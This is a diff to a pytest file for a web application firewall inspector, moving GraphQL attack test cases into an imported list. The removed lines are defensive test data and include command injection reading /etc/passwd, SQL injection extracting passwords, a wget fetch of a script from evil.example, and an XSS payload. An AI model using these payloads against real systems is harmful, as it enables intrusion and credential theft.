@@ -9,7 +9,7 @@ import pytest
 from sidestep.protocols.waf_messages import Outcome
 from sidestep.snapshots.waf import Profile
 from tests.harness.inspectors import FIELDS, InspectorZygote
-from tests.privileged.inspector.benign import requests
+from tests.privileged.inspector.benign import GRAPHQL_ATTACKS, requests
 
 DECIDES = 949110
 
@@ -34,15 +34,7 @@ def test_fewer_than_one_percent_of_ordinary_requests_are_blocked(inspector):
     assert len(blocked) < len(corpus) / 100, blocked
 
 
-@pytest.mark.parametrize(
-    "query",
-    [
-        "{ id }; cat /etc/passwd",
-        'query A { a(b: "\' UNION SELECT password FROM users--") }',
-        "; wget http://evil.example/x.sh",
-        'query { a(b: "<script>alert(1)</script>") }',
-    ],
-)
+@pytest.mark.parametrize("query", GRAPHQL_ATTACKS)
 def test_attacks_in_a_query_of_graphql_are_blocked(inspector, query):
     body = json.dumps({"query": query}).encode()
     fields = ((b"Content-Type", b"application/json"), (b"Content-Length", str(len(body)).encode()))
